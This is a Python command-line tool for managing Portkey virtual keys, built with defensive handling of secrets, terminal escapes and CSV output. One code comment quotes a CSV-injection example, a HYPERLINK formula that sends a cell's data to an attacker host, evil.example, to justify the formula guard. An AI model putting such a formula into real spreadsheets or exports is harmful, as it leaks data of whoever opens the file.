"""``portkey-vk``: virtual keys from the command line (retrieve, list, create, update, delete).

Built on the sync facade, :class:`portkey_vk.Portkey`. Errors are one line on stderr and a
distinct exit code (see :data:`EXIT_CODES`); the API key and the provider key are never printed,
and server-controlled text in human output has its control characters escaped. Output is plain
text (no optional dependency): a table, or ``--json``/``--jsonl``/``--csv`` for scripts.
"""

from __future__ import annotations

import argparse
import asyncio
import csv
import getpass
import json
import os
import sys
import time
import unicodedata
from collections.abc import Callable, Sequence
from typing import Any, Final, TextIO

from portkey_vk._client import AsyncPortkey
from portkey_vk._config import API_KEY_ENV, BASE_URL_ENV, DEFAULT_TIMEOUT, redact
from portkey_vk._errors import (
    APIConnectionError,
    AuthenticationError,
    NotFoundError,
    PermissionDeniedError,
    PortkeyError,
)
from portkey_vk._models import ResourceRef, VirtualKey
from portkey_vk._sync import Portkey
from portkey_vk._version import __version__

__all__ = ["EXIT_CODES", "main"]

EXIT_OK: Final = 0
EXIT_API_ERROR: Final = 1
EXIT_USAGE: Final = 2
EXIT_AUTH: Final = 3
EXIT_NOT_FOUND: Final = 4
EXIT_CONNECTION: Final = 5
EXIT_INTERRUPTED: Final = 130

EXIT_CODES: Final = {
    EXIT_OK: "success",
    EXIT_API_ERROR: "any other API error (e.g. 429, 5xx after retries, an invalid response)",
    EXIT_USAGE: "usage error: bad arguments, an invalid base URL or slug, or a delete that was "
    "not confirmed",
    EXIT_AUTH: f"authentication: no API key (set {API_KEY_ENV}), or it was refused (401/403)",
    EXIT_NOT_FOUND: "no virtual key has this slug (404)",
    EXIT_CONNECTION: "the control plane could not be reached, or timed out",
    EXIT_INTERRUPTED: "interrupted (Ctrl-C)",
}
"""Every exit code ``portkey-vk`` uses, and what it means."""

_PROG: Final = "portkey-vk"
_SUMMARY_FIELDS: Final = (
    "slug",
    "name",
    "status",
    "ai_provider_name",
    "masked_api_key",
    "note",
    "created_at",
    "expires_at",
    "usage_limits",
    "rate_limits",
)
_DEMO_SLUG: Final = "demo-openai-key"
PROVIDER_KEY_ENV: Final = "PORTKEY_PROVIDER_KEY"
"""Where ``portkey-vk create`` reads the provider's key when ``--key-stdin`` is not given."""
# Columns of `portkey-vk list` (table and CSV): (header, VirtualKey.to_dict() field).
_LIST_COLUMNS: Final = (
    ("SLUG", "slug"),
    ("NAME", "name"),
    ("PROVIDER", "ai_provider_name"),
    ("STATUS", "status"),
    ("CREATED", "created_at"),
    ("NOTE", "note"),
)
_CELL_WIDTH: Final = 40
_PROGRESS_INTERVAL: Final = 0.1
_EXAMPLES: Final = """examples:
  portkey-vk list
  portkey-vk list --workspace ws-123 --jsonl | jq -r .slug
  printf %s "$OPENAI_API_KEY" | portkey-vk create --name prod-openai --provider openai --key-stdin
  portkey-vk update prod-openai --note "rotated" --key-stdin < new-key.txt
  portkey-vk delete prod-openai --yes
  portkey-vk retrieve prod-openai --json
"""
# Unicode categories a terminal must never receive raw from a server: controls (C0, DEL, C1, so
# ESC and CSI sequences that retitle or clear the terminal), format characters (bidi overrides
# and isolates that reorder what is shown, zero-width and tag characters that hide text),
# surrogates, and line/paragraph separators.
_UNSAFE_CATEGORIES: Final = frozenset({"Cc", "Cf", "Cs", "Zl", "Zp"})
# Format characters that scripts and emoji need to render at all, and cannot reorder text.
_JOINERS: Final = frozenset({"\u200c", "\u200d"})
# An error is one line; a server's message could otherwise be megabytes.
_MAX_ERROR_CHARS: Final = 1000


class _UsageError(Exception):
    """Bad input caught before any request, reported with the usage exit code."""


class _NoKeyError(Exception):
    """No API key anywhere, reported with the authentication exit code."""


def _connection_options() -> argparse.ArgumentParser:
    """The options every command that talks to the control plane shares."""
    common = argparse.ArgumentParser(add_help=False, allow_abbrev=False)
    common.add_argument(
        "--api-key",
        metavar="KEY",
        help=f"Portkey API key (default: ${API_KEY_ENV}; prefer the variable, as arguments "
        "show up in process lists and shell history)",
    )
    common.add_argument(
        "--base-url",
        metavar="URL",
        help=f"the control plane's API root (default: ${BASE_URL_ENV}, then Portkey's cloud)",
    )
    common.add_argument(
        "--timeout",
        metavar="S",
        type=float,
        default=DEFAULT_TIMEOUT,
        help="seconds each attempt may take (default: %(default)s)",
    )
    return common


def _parser() -> argparse.ArgumentParser:
    codes = "\n".join(f"  {code:<4} {meaning}" for code, meaning in EXIT_CODES.items())
    parser = argparse.ArgumentParser(
        prog=_PROG,
        description="Manage Portkey virtual keys: retrieve, list, create, update, delete.",
        epilog=f"{_EXAMPLES}\nexit codes:\n{codes}",
        formatter_class=argparse.RawDescriptionHelpFormatter,
        allow_abbrev=False,
    )
    parser.add_argument("--version", action="version", version=f"%(prog)s {__version__}")
    commands = parser.add_subparsers(dest="command", required=True, metavar="COMMAND")
    common = _connection_options()

    def command(name: str, help_text: str, description: str, examples: str) -> Any:
        return commands.add_parser(
            name,
            parents=[common],
            help=help_text,
            description=description,
            epilog=f"examples:\n{examples}\nexit codes:\n{codes}",
            formatter_class=argparse.RawDescriptionHelpFormatter,
            allow_abbrev=False,
        )

    retrieve = command(
        "retrieve",
        "print one virtual key",
        "Print the virtual key SLUG.",
        "  portkey-vk retrieve prod-openai\n"
        "  portkey-vk retrieve prod-openai --json | jq .status\n",
    )
    retrieve.add_argument("slug", metavar="SLUG", help="the virtual key's slug")
    retrieve.add_argument("--json", action="store_true", help="print the key as JSON")

    listing = command(
        "list",
        "list every virtual key",
        "List every virtual key, page after page (GET /virtual-keys). A table by default; "
        "while pages load, progress is shown on stderr when it is a terminal.",
        "  portkey-vk list\n  portkey-vk list --workspace ws-123 --csv > keys.csv\n"
        "  portkey-vk list --jsonl | jq -r 'select(.status != \"active\") | .slug'\n",
    )
    listing.add_argument(
        "--page-size",
        metavar="N",
        type=int,
        default=100,
        help="keys per request, 1 to 1000 (default: %(default)s)",
    )
    listing.add_argument("--workspace", metavar="ID", help="only this workspace's keys")
    formats = listing.add_mutually_exclusive_group()
    formats.add_argument("--json", action="store_true", help="print one JSON array")
    formats.add_argument("--jsonl", action="store_true", help="print one JSON object a line")
    formats.add_argument("--csv", action="store_true", help="print CSV with a header row")

    create = command(
        "create",
        "create a virtual key",
        f"Create a virtual key and print its slug. The provider's key is read from stdin with "
        f"--key-stdin, or from ${PROVIDER_KEY_ENV}; never from an argument, which would show up "
        "in process lists and shell history.",
        '  printf %s "$OPENAI_API_KEY" | portkey-vk create --name prod --provider openai '
        "--key-stdin\n"
        f"  {PROVIDER_KEY_ENV}=sk-... portkey-vk create --name prod --provider openai --json\n",
    )
    create.add_argument("--name", required=True, metavar="NAME", help="the key's display name")
    create.add_argument(
        "--provider", required=True, metavar="P", help="the AI provider, e.g. openai, anthropic"
    )
    create.add_argument("--note", metavar="TEXT", help="a free-text note")
    create.add_argument("--workspace", metavar="ID", help="the workspace to create it in")
    create.add_argument(
        "--key-stdin", action="store_true", help="read the provider's key from stdin"
    )
    create.add_argument("--json", action="store_true", help="print the new key's slug as JSON")

    update = command(
        "update",
        "change a virtual key",
        "Change the virtual key SLUG: only the options given are sent. --key-stdin rotates the "
        "provider's key, read from stdin.",
        '  portkey-vk update prod-openai --note "rotated 2025-06"\n'
        "  portkey-vk update prod-openai --key-stdin < new-key.txt\n",
    )
    update.add_argument("slug", metavar="SLUG", help="the virtual key's slug")
    update.add_argument("--name", metavar="NAME", help="a new display name")
    update.add_argument("--note", metavar="TEXT", help="a new note")
    update.add_argument(
        "--key-stdin", action="store_true", help="read a new provider key from stdin"
    )

    delete = command(
        "delete",
        "delete a virtual key",
        "Delete the virtual key SLUG. On a terminal it asks first; otherwise it refuses "
        "unless --yes is given.",
        "  portkey-vk delete prod-openai\n  portkey-vk delete prod-openai --yes\n",
    )
    delete.add_argument("slug", metavar="SLUG", help="the virtual key's slug")
    delete.add_argument("--yes", action="store_true", help="delete without asking")

    commands.add_parser(
        "demo",
        help="offline demo against the bundled fake control plane",
        description="Start the bundled FakePortkey on 127.0.0.1, store a sample key, and read "
        "it with both AsyncPortkey and Portkey. Needs no network and no API key.",
        allow_abbrev=False,
    )
    from portkey_vk import _cli_providers  # noqa: PLC0415 - it imports this module

    _cli_providers.register(commands, f"exit codes:\n{codes}")
    return parser


# An option whose name has one of these words is taken for a secret: refused before argparse
# sees it, whose messages would echo the value that follows it.
_SECRET_WORDS: Final = frozenset(
    {"key", "keys", "apikey", "secret", "secrets", "password", "passwd", "token", "tokens"}
)


def _looks_secret(option: str) -> bool:
    name = option.split("=", 1)[0].lstrip("-").lower().replace("_", "-")
    return any(word in _SECRET_WORDS for word in name.split("-"))


def _refuse_secret_options(parser: argparse.ArgumentParser, argv: Sequence[str]) -> None:
    """Exit with the usage code if ``argv`` holds a secret-looking option no command defines.

    Walks ``argv`` down the subcommands as argparse will, so a defined option (``--api-key``,
    ``--key-stdin``) passes where its command has it; any other ``--key``, ``--token=...``
    anywhere is refused naming only the option, never its value or what follows it.
    """
    current = parser
    for arg in argv:
        if arg.startswith("-") and len(arg) > 1:
            name = arg.split("=", 1)[0]
            if name in current._option_string_actions or not _looks_secret(arg):
                continue
            current.error(
                f"{name}: secrets are never taken as arguments (process lists and shell history "
                f"show them): set {API_KEY_ENV}; a provider key is piped in with --key-stdin"
            )
        for action in current._actions:
            if isinstance(action, argparse._SubParsersAction) and arg in action.choices:
                current = action.choices[arg]
                break


def _parse(argv: Sequence[str] | None) -> argparse.Namespace:
    parser = _parser()
    argv = sys.argv[1:] if argv is None else list(argv)
    _refuse_secret_options(parser, argv)
    args, extra = parser.parse_known_args(argv)
    if extra:
        # argparse would list them all; a stray value may be a secret typed in the wrong place.
        options = [arg.split("=", 1)[0] for arg in extra if arg.startswith("-")]
        hidden = len(extra) - len(options)
        shown = " ".join(options)
        if hidden:
            other = " and {} other argument" if options else "{} argument"
            shown += other.format(hidden) + "s" * (hidden > 1)
            shown += " (not shown, in case it is a secret)"
        parser.error(f"unrecognized arguments: {shown}")
    return args


def _escape(ch: str) -> str:
    code = ord(ch)
    if code <= 0xFF:
        return f"\\x{code:02x}"
    if code <= 0xFFFF:
        return f"\\u{code:04x}"
    return f"\\U{code:08x}"


def _for_terminal(text: str, out: TextIO | None = None) -> str:
    """``text`` with every character unsafe for a terminal written as a Python-style escape.

    Also escapes what the stream's encoding cannot write (an emoji to an ASCII console), which
    would otherwise end the program with a UnicodeEncodeError.
    """
    if not text.isprintable():  # one C-level pass for the usual, harmless text
        text = "".join(
            _escape(ch)
            if unicodedata.category(ch) in _UNSAFE_CATEGORIES and ch not in _JOINERS
            else ch
            for ch in text
        )
    encoding = getattr(out, "encoding", None)
    if encoding:
        text = text.encode(encoding, "backslashreplace").decode(encoding)
    return text


def _safe(text: str) -> str:
    """``text`` safe to print as is: what a terminal must not receive from a server, escaped."""
    return _for_terminal(text)


# A spreadsheet reads a cell starting with one of these as a formula: a server-chosen name such
# as `=HYPERLINK("https://evil.example/?"&A1, "open")` would run in whoever opens the CSV.
_FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")


def _for_spreadsheet(text: str) -> str:
    """A CSV cell that a spreadsheet shows as text, never evaluates (OWASP's CSV injection rule).

    A leading apostrophe is what spreadsheets themselves use to mark a cell as text; only cells
    that would start a formula get one (every column of the CSV is text: no number loses a sign).
    """
    return "'" + text if text.startswith(_FORMULA_STARTS) else text


def _csv_cell(out: TextIO) -> Callable[[str], str]:
    """How a CSV cell is written to ``out``: the server's text, as the csv module quotes it.

    Only the formula guard changes it, and only what ``out``'s encoding cannot write (a lone
    surrogate) is escaped. On a terminal, where no program reads it back, it is escaped as the
    human table is, as ``ls`` escapes names only on a terminal.
    """
    if _is_terminal(out):
        return lambda text: _for_spreadsheet(_for_terminal(text, out))
    encoding = getattr(out, "encoding", None)
    if not encoding:
        return _for_spreadsheet
    return lambda text: _for_spreadsheet(text.encode(encoding, "backslashreplace").decode(encoding))


def _is_terminal(stream: TextIO) -> bool:
    try:
        return stream.isatty()
    except (AttributeError, ValueError, OSError):
        return False


def _summary(vk: VirtualKey, out: TextIO | None = None) -> str:
    data = vk.to_dict()
    width = max(len(name) for name in _SUMMARY_FIELDS)
    lines = []
    for name in _SUMMARY_FIELDS:
        value = data.get(name)
        if value is None or value == []:
            continue
        # json.dumps escapes controls and non-ASCII; a str is the server's text as it came.
        text = value if isinstance(value, str) else json.dumps(value, default=str)
        lines.append(f"{name:<{width}}  {_for_terminal(text, out)}")
    return "\n".join(lines)


def _client(args: argparse.Namespace) -> Portkey:
    key = args.api_key if args.api_key is not None else os.environ.get(API_KEY_ENV, "")
    if not key.strip():
        raise _NoKeyError(f"no Portkey API key: set {API_KEY_ENV} or pass --api-key")
    try:
        return Portkey(api_key=args.api_key, base_url=args.base_url, timeout=args.timeout)
    except (PortkeyError, TypeError, ValueError) as exc:
        raise _UsageError(str(exc)) from exc


def _retrieve(args: argparse.Namespace, out: TextIO) -> int:
    with _client(args) as client:
        try:
            vk = client.virtual_keys.retrieve(args.slug)
        except ValueError as exc:  # the slug was refused before any request
            raise _UsageError(str(exc)) from exc
    if args.json:
        # Exact JSON, and pure ASCII: every control, bidi or non-ASCII character of the
        # server's text is a \uXXXX escape, so nothing reaches the terminal raw. Models hold no
        # NaN or infinity, so allow_nan=False never fires; it keeps the output JSON regardless.
        text = json.dumps(vk.to_dict(), indent=2, default=str, ensure_ascii=True, allow_nan=False)
        out.write(text + "\n")
    else:
        out.write(_summary(vk, out) + "\n")
    return EXIT_OK


class _Progress:
    """``loading virtual keys: 150/5000`` on stderr, rewritten in place; only on a terminal."""

    def __init__(self, stream: TextIO, total: int | None) -> None:
        self._stream = stream
        self._total = total
        self._shown = False
        self._next = time.monotonic() + _PROGRESS_INTERVAL

    def update(self, count: int) -> None:
        now = time.monotonic()
        if now < self._next:
            return
        self._next = now + _PROGRESS_INTERVAL
        of = "" if self._total is None else f"/{self._total}"
        self._stream.write(f"\rloading virtual keys: {count}{of}")
        self._stream.flush()
        self._shown = True

    def done(self) -> None:
        if self._shown:
            self._stream.write("\r\x1b[K")
            self._stream.flush()


def _cell(value: object) -> str:
    if value is None:
        return ""
    text = value if isinstance(value, str) else json.dumps(value, default=str)
    return text


def _list(args: argparse.Namespace, out: TextIO) -> int:
    err = sys.stderr
    with _client(args) as client:
        try:
            page = client.virtual_keys.list(
                page_size=args.page_size,
                workspace_id=args.workspace,
            )
        except (TypeError, ValueError) as exc:  # refused before any request
            raise _UsageError(str(exc)) from exc
        progress = _Progress(err, page.total) if _is_terminal(err) else None
        rows: list[dict[str, Any]] = []
        writer = csv.writer(out) if args.csv else None
        to_csv = _csv_cell(out)
        if writer is not None:
            writer.writerow([field for _, field in _LIST_COLUMNS])
        try:
            for count, vk in enumerate(page, start=1):
                data = vk.to_dict()
                if args.jsonl:
                    out.write(json.dumps(data, default=str) + "\n")
                elif writer is not None:
                    writer.writerow([to_csv(_cell(data.get(f))) for _, f in _LIST_COLUMNS])
                else:
                    rows.append(data)
                if progress is not None:
                    progress.update(count)
        finally:
            if progress is not None:
                progress.done()
    if args.json:
        out.write(json.dumps(rows, indent=2, default=str) + "\n")
    elif not (args.jsonl or args.csv):
        out.write(_table(rows))
    return EXIT_OK


def _table(rows: list[dict[str, Any]]) -> str:
    if not rows:
        return "(no virtual keys)\n"
    cells = [[_clip(_safe(_cell(row.get(field)))) for _, field in _LIST_COLUMNS] for row in rows]
    headers = [header for header, _ in _LIST_COLUMNS]
    widths = [max(len(headers[i]), *(len(line[i]) for line in cells)) for i in range(len(headers))]
    lines = ["  ".join(h.ljust(w) for h, w in zip(headers, widths, strict=True)).rstrip()]
    lines += [
        "  ".join(c.ljust(w) for c, w in zip(line, widths, strict=True)).rstrip() for line in cells
    ]
    return "\n".join(lines) + "\n"


def _clip(text: str) -> str:
    return text if len(text) <= _CELL_WIDTH else text[: _CELL_WIDTH - 1] + "\u2026"


def _provider_key(args: argparse.Namespace, stdin: TextIO, *, required: bool) -> str | None:
    """The provider's key: from stdin with ``--key-stdin``, else (for create) the environment."""
    if args.key_stdin:
        if _is_terminal(stdin):
            # Typed by hand: not echoed, so it does not stay on the screen or in a recording.
            key = getpass.getpass("provider key: ", stream=sys.stderr)
        else:
            key = stdin.read().strip("\r\n")
        if not key.strip():
            raise _UsageError("--key-stdin read an empty provider key")
        return key
    if required:
        key = os.environ.get(PROVIDER_KEY_ENV, "")
        if not key.strip():
            raise _UsageError(
                f"no provider key: pipe it in with --key-stdin or set {PROVIDER_KEY_ENV}"
            )
        return key
    return None


def _create(args: argparse.Namespace, out: TextIO, stdin: TextIO, secrets: list[str]) -> int:
    key = _provider_key(args, stdin, required=True)
    assert key is not None
    secrets.append(key)
    with _client(args) as client:
        optional: dict[str, Any] = {}
        if args.note is not None:
            optional["note"] = args.note
        if args.workspace is not None:
            optional["workspace_id"] = args.workspace
        try:
            ref = client.virtual_keys.create(
                name=args.name, provider=args.provider, key=key, **optional
            )
        except (TypeError, ValueError) as exc:  # refused before any request
            raise _UsageError(str(exc)) from exc
    _print_ref(ref, out, as_json=args.json)
    return EXIT_OK


def _print_ref(ref: ResourceRef, out: TextIO, *, as_json: bool) -> None:
    if as_json:
        out.write(json.dumps(ref.to_dict(), default=str) + "\n")
    else:
        out.write(f"created {_safe(ref.slug or '')}\n")


def _update(args: argparse.Namespace, out: TextIO, stdin: TextIO, secrets: list[str]) -> int:
    fields: dict[str, Any] = {}
    if args.name is not None:
        fields["name"] = args.name
    if args.note is not None:
        fields["note"] = args.note
    key = _provider_key(args, stdin, required=False)
    if key is not None:
        secrets.append(key)
        fields["key"] = key
    if not fields:
        raise _UsageError("nothing to change: give --name, --note or --key-stdin")
    with _client(args) as client:
        try:
            client.virtual_keys.update(args.slug, **fields)
        except (TypeError, ValueError) as exc:  # refused before any request
            raise _UsageError(str(exc)) from exc
    out.write(f"updated {_safe(args.slug)}\n")
    return EXIT_OK


def _delete(args: argparse.Namespace, out: TextIO, stdin: TextIO) -> int:
    if not args.yes:
        if not _is_terminal(stdin):
            raise _UsageError(
                "not deleting without confirmation: stdin is not a terminal; pass --yes"
            )
        sys.stderr.write(f"Delete virtual key {_safe(args.slug)}? [y/N] ")
        sys.stderr.flush()
        answer = stdin.readline().strip().lower()
        if answer not in ("y", "yes"):
            raise _UsageError("not deleted")
    with _client(args) as client:
        try:
            client.virtual_keys.delete(args.slug)
        except ValueError as exc:  # refused before any request
            raise _UsageError(str(exc)) from exc
    out.write(f"deleted {_safe(args.slug)}\n")
    return EXIT_OK


def _demo(out: TextIO) -> int:
    from portkey_vk.testing import FakePortkey  # noqa: PLC0415 - only the demo needs a server

    with FakePortkey() as fake:
        fake.add_virtual_key(
            _DEMO_SLUG,
            name="Demo OpenAI key",
            note="served by portkey_vk.testing.FakePortkey",
            usage_limits={"credit_limit": 100, "type": "cost", "periodic_reset": "monthly"},
            rate_limits=[{"type": "requests", "unit": "rpm", "value": 600}],
        )
        out.write(f"FakePortkey serving at {fake.base_url}\n\n")

        async def read_async() -> VirtualKey:
            async with AsyncPortkey(api_key=fake.api_key, base_url=fake.base_url) as client:
                return await client.virtual_keys.retrieve(_DEMO_SLUG)

        from_async = asyncio.run(read_async())
        out.write("AsyncPortkey: await client.virtual_keys.retrieve(...)\n")
        out.write(_summary(from_async, out) + "\n\n")

        with Portkey(api_key=fake.api_key, base_url=fake.base_url) as client:
            from_sync = client.virtual_keys.retrieve(_DEMO_SLUG)
            out.write("Portkey: client.virtual_keys.retrieve(...)\n")
            out.write(_summary(from_sync, out) + "\n\n")
            same = "the same" if from_async == from_sync else "DIFFERENT"
            out.write(f"Both clients read {same} key.\n\n")
            _demo_tour(client, out)
    return EXIT_OK if from_async == from_sync else EXIT_API_ERROR


def _demo_tour(client: Portkey, out: TextIO) -> None:
    """The rest of the SDK, briefly: writes, paging, the migration check and the cache."""
    from portkey_vk._cache import Cache  # noqa: PLC0415 - only the demo needs them here
    from portkey_vk.migration import check_migration_sync  # noqa: PLC0415

    ref = client.virtual_keys.create(
        name="Demo Anthropic key", provider="anthropic", key="sk-ant-demo-0123456789abcdef"
    )
    slug = _safe(ref.slug or "")
    out.write(f"virtual_keys.create(...) -> {slug} (its provider key is shown nowhere)\n")
    client.virtual_keys.update(ref.slug or "", note="rotated by the demo")
    out.write(f"virtual_keys.update({slug!r}, note=...) -> None\n")
    slugs = [_safe(vk.slug or "") for vk in client.virtual_keys.list(page_size=1)]
    out.write(f"virtual_keys.list(page_size=1): {len(slugs)} keys, paged: {', '.join(slugs)}\n")
    out.write(f"migration check: {_safe(check_migration_sync(client).summary())}\n")
    cached = client.with_options(cache=Cache(ttl=30.0))
    for _ in range(5):
        cached.virtual_keys.retrieve(_DEMO_SLUG)
    stats = cached.cache.stats if cached.cache is not None else None
    out.write(f"5 reads through Cache(ttl=30): {stats}\n")
    client.virtual_keys.delete(ref.slug or "")
    out.write(f"virtual_keys.delete({slug!r}) -> None\n")


def _exit_code(exc: PortkeyError) -> int:
    if isinstance(exc, AuthenticationError | PermissionDeniedError):
        return EXIT_AUTH
    if isinstance(exc, NotFoundError):
        return EXIT_NOT_FOUND
    if isinstance(exc, APIConnectionError):
        return EXIT_CONNECTION
    return EXIT_API_ERROR


def main(
    argv: Sequence[str] | None = None,
    *,
    out: TextIO | None = None,
    stdin: TextIO | None = None,
) -> int:
    """Run ``portkey-vk`` with ``argv`` (default: ``sys.argv[1:]``) and return its exit code.

    Errors are reported as one line on stderr, never a traceback; the exit codes are listed in
    :data:`EXIT_CODES` and in ``portkey-vk --help``. ``out`` and ``stdin`` default to the
    process's own.
    """
    out = sys.stdout if out is None else out
    stdin = sys.stdin if stdin is None else stdin
    args = _parse(argv)  # exits with EXIT_USAGE on bad arguments
    secrets = [getattr(args, "api_key", None) or os.environ.get(API_KEY_ENV, "")]
    if args.command == "create":
        secrets.append(os.environ.get(PROVIDER_KEY_ENV, ""))
    try:
        code = _run(args, out, stdin, secrets)
        out.flush()  # a closed pipe is found here, not in the interpreter's flush at exit
        return code
    except BrokenPipeError:
        # The reader stopped reading (`portkey-vk list | head -1`): what it asked for, so a
        # quiet success, as a `set -o pipefail` script expects of a listing cut short.
        _discard_output(out)
        return EXIT_OK
    except _UsageError as exc:
        _error(f"error: {exc}", secrets)
        return EXIT_USAGE
    except _NoKeyError as exc:
        _error(f"error: {exc}", secrets)
        return EXIT_AUTH
    except PortkeyError as exc:
        # An APIStatusError reads "<status> <Portkey's message> (error code <code>, ...)".
        hint = ""
        if isinstance(exc, AuthenticationError):
            hint = f" (check {'--api-key' if getattr(args, 'api_key', None) else API_KEY_ENV})"
        _error(f"error: {type(exc).__name__}: {exc}{hint}", secrets)
        return _exit_code(exc)
    except KeyboardInterrupt:
        _error("interrupted", secrets)
        return EXIT_INTERRUPTED


def _run(args: argparse.Namespace, out: TextIO, stdin: TextIO, secrets: list[str]) -> int:
    if args.command == "demo":
        return _demo(out)
    if hasattr(args, "run"):  # providers, migration-check: portkey_vk/_cli_providers.py
        return int(args.run(args, out))
    if args.command == "list":
        return _list(args, out)
    if args.command == "create":
        return _create(args, out, stdin, secrets)
    if args.command == "update":
        return _update(args, out, stdin, secrets)
    if args.command == "delete":
        return _delete(args, out, stdin)
    return _retrieve(args, out)


def _discard_output(out: TextIO) -> None:
    """Point ``out``'s descriptor at /dev/null, so that what is still buffered is dropped.

    Python flushes stdout once more at exit; to a closed pipe that prints "Exception ignored
    ... BrokenPipeError" and exits 120 (the recipe of the docs' note on SIGPIPE).
    """
    try:
        fd = out.fileno()
    except (AttributeError, OSError, ValueError):
        return
    devnull = os.open(os.devnull, os.O_WRONLY)
    try:
        os.dup2(devnull, fd)
    finally:
        os.close(devnull)


def _error(message: str, secrets: Sequence[str]) -> None:
    # Error messages carry the server's text (Portkey's message, a snippet of an HTML page).
    for secret in secrets:
        message = redact(message, secret)
    line = _for_terminal(" ".join(message.split()), sys.stderr)
    if len(line) > _MAX_ERROR_CHARS:
        line = line[:_MAX_ERROR_CHARS] + "..."
    print(f"{_PROG}: {line}", file=sys.stderr)
